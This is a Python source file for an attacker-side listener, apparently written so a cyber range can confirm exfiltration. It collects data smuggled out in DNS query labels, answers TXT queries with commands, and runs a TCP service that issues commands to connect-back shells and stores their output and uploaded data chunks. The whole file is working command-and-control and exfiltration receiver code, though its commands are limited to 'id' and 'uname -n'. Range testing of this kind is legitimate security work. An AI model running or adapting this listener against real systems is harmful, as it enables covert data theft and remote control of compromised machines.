"""The attacker's other ear: keeps what comes by DNS and by a plain line protocol, so that a range can prove it.

listener.py PORT FOLDER

UDP 53     <data>.<number>.<word>.<zone>: data is kept as FOLDER/<word>/dns-<number>; TXT is answered with an order.
TCP PORT   first line `shell <word>`: orders are sent, the answers are kept as FOLDER/<word>/shell
           first line `chunk <word> <number>`: the rest is kept as FOLDER/<word>/chunk-<number>
The orders are `id` and `uname`: whoever connects back says who and where it is, and that is all.
"""

import re
import socket
import socketserver
import struct
import sys
import threading
from pathlib import Path

A, TXT = 1, 16
ORDERS = ("id", "uname -n")


def keep(folder: Path, word: str, name: str, data: bytes) -> None:
    place = folder / re.sub(r"[^A-Za-z0-9_-]", "", word)[:64]
    place.mkdir(parents=True, exist_ok=True)
    (place / re.sub(r"[^A-Za-z0-9_-]", "", name)[:80]).write_bytes(data[: 1 << 20])


class Lines(socketserver.StreamRequestHandler):
    """One connection back."""

    folder = Path()
    timeout = 10

    def handle(self) -> None:
        words = self.rfile.readline(200).decode("ascii", "replace").split()
        if words[:1] == ["shell"] and len(words) == 2:
            answers = []
            for order in ORDERS:
                self.wfile.write(order.encode() + b"\n")
                answers.append(self.rfile.readline(4096))
            keep(self.folder, words[1], "shell", b"".join(answers))
        elif words[:1] == ["chunk"] and len(words) == 3:
            keep(self.folder, words[1], f"chunk-{words[2]}", self.rfile.read(1 << 20))


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def answer(query: bytes, source: str, folder: Path) -> bytes:
    """A DNS answer to one question; its labels are kept. Raises for what is no question."""
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1 : at + 1 + query[at]])
        at += 1 + query[at]
    kind = struct.unpack("!H", query[at + 1 : at + 3])[0]
    if len(labels) > 3:
        data, number, word = labels[:3]
        keep(folder, word.decode(), f"dns-{number.decode()}", data)
    text = f"order: {ORDERS[0]}".encode()
    found = {A: socket.inet_aton(source), TXT: bytes([len(text)]) + text}.get(kind)
    head = query[:2] + struct.pack("!HHHHH", 0x8580, 1, 1 if found else 0, 0, 0)
    record = struct.pack("!HHHIH", 0xC00C, kind, 1, 0, len(found)) + found if found else b""
    return head + query[12 : at + 5] + record


def names(folder: Path) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
        ear.bind(("", 53))
        while True:
            query, peer = ear.recvfrom(4096)
            try:
                ear.sendto(answer(query, peer[0], folder), peer)
            except (IndexError, UnicodeDecodeError, struct.error):
                continue


if __name__ == "__main__":
    Lines.folder = Path(sys.argv[2])
    threading.Thread(target=names, args=(Lines.folder,), daemon=True).start()
    Server(("", int(sys.argv[1])), Lines).serve_forever()
